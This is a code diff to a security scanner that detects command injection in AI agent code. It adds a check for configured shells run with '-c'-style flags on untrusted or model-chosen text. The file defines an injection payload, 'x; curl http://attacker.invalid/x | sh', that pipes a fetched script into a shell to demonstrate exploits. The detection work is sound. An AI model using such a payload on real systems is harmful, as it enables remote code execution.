@@ -6,7 +6,7 @@ import { constant, constString, dictGet, fillHoleMarkers, HOLE_PREFIX, joinValue
 import { isNumber, isWhich, RUNNING_INTERPRETER } from '../flow.js';
 import { isPlainWord } from '../patterns.js';
 import { agentCommandCode, allowlisted, calleeText, configuredValue, EVERY_CALLER_OWN, fillHoles, NO_SOURCE_OUTSIDE_AGENT_COMMANDS, notAllowlisted, ownAtEveryCall, passedThrough, quote, severityForTaint, taintPhrase, traceOf, unsanitized } from './common.js';
-import type { Check, CheckContext, SinkHit } from './types.js';
+import type { Check, CheckContext, SinkHit, Verdict } from './types.js';
 
 export const COMMAND_PAYLOAD = 'x; curl http://attacker.invalid/x | sh';
 
@@ -544,7 +544,7 @@ export const commandShell: Check = {
       return { message: `\`${callee}\` may run its command through a shell (the \`shell\` option is dynamic).`, severity: 'medium' };
     }
     const program = constString(shape.program);
-    if (program === undefined) return undefined;
+    if (program === undefined) return shape.program ? configuredShellLine(hit, ctx, shape.program, shape.args, callee) : undefined;
     const args = shape.args.map((a) => fillHoles(a, COMMAND_PAYLOAD) ?? COMMAND_PAYLOAD);
     // (a dynamic word standing alone after the subcommand may be an option it takes: `git clone $url` with `--upload-pack=…`)
     const plain = classifyCommand({ command: program, args }, null);
@@ -606,6 +606,27 @@ export const commandShell: Check = {
     };
   }),
 };
+
+/**
+ * `[self.default_shell, "-c", command]`: a program the settings name (a shell a user configures, `bash` or `cmd` by
+ * default) handed a shell's command-line flag (`-c`, `/c`, `-Command`, or one of them by platform) and, after it, text an
+ * untrusted origin reaches: that text is the command line the shell runs.
+ */
+function configuredShellLine(hit: SinkHit, ctx: CheckContext, program: Value, args: readonly Value[], callee: string): Verdict | undefined {
+  const flags = args[0] && (constString(args[0]) !== undefined ? [constString(args[0])!] : args[0].kind === 'unknown' ? args[0].oneOf : undefined);
+  if (!flags?.length || !flags.every((f) => typeof f === 'string' && SHELL_COMMAND_FLAG.test(f)) || !configuredValue(program)) return undefined;
+  const taints = args[1] ? unsanitized(ctx, args[1], ['shell-quoted']) : [];
+  if (!taints.length) return undefined;
+  return {
+    message: `\`${callee}\` runs a command line taken from ${taintPhrase(taints)} in the shell its settings name (with ${flags.map((f) => `\`${f}\``).join(' or ')}): ${taints.every((t) => t.origin.kind === 'tool-param' || t.origin.kind === 'llm-output') ? 'the model chooses' : 'its sender chooses'} what runs, with the agent's privileges.`,
+    severity: severityForTaint(taints, ctx.rule.severity),
+    trace: traceOf(taints, ctx, hit.call, `reaches \`${callee}\``),
+    action: { kind: 'exec', command: 'sh', args: ['-c', fillHoles(args[1]!, COMMAND_PAYLOAD) ?? COMMAND_PAYLOAD] },
+  };
+}
+
+/** A shell's flag that takes the next word as a command line: `sh -c`, `cmd /c`, `powershell -Command`. */
+const SHELL_COMMAND_FLAG = /^(?:-[a-z]*c|\/[cCkK]|-Command)$/;
 
 /** argv-form spawns whose program is not a constant, or whose arguments come from untrusted data. */
 export const commandDynamic: Check = {
